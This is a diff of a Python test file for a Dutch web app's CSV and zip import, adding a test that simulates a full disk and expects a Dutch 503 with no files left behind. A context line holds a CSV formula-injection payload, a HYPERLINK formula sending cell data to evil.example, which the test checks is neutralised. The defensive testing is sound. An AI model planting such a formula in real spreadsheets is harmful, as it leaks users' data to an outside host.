@@ -4,11 +4,13 @@ Doorvoeren, which writes exactly the preview or nothing; and the downloads."""
 
 from __future__ import annotations
 
+import errno
 import io
 import json
 import re
 import zipfile
 from datetime import UTC, datetime
+from pathlib import Path
 
 import pytest
 
@@ -279,3 +281,21 @@ def test_a_formula_in_a_bio_is_neutralised_in_the_csv_zip_and_reads_back_unchang
     assert ";\"'=HYPERLINK(\"\"http://evil.example/?\"\"&B2,\"\"Klik\"\")\";" in text
     upload(coordinator, ("kernteamdb-csv.zip", as_zip.data))
     assert "Deze upload verandert niets aan de pool." in coordinator.get(PREVIEW).get_data(as_text=True)
+
+
+def test_an_upload_on_a_full_disk_is_a_dutch_503_and_leaves_nothing(app, coordinator, monkeypatch, tmp_path):
+    token = csrf_token(coordinator, IMPORT)
+    written = []
+
+    def full(path, data):  # the first file fits, the next meets a full disk
+        if written:
+            raise OSError(errno.ENOSPC, "No space left on device")
+        written.append(path)
+        return real(path, data)
+
+    real = Path.write_bytes
+    monkeypatch.setattr(Path, "write_bytes", full)
+    answer = upload(coordinator, ("organisations.csv", b"id,name\norg-x,X\n"),
+                    ("professionals.csv", b"id,name\np-x,X\n"), token=token)
+    assert answer.status_code == 503 and "De opslag is vol" in answer.get_data(as_text=True)
+    assert written and list((tmp_path / "imports").iterdir()) == []
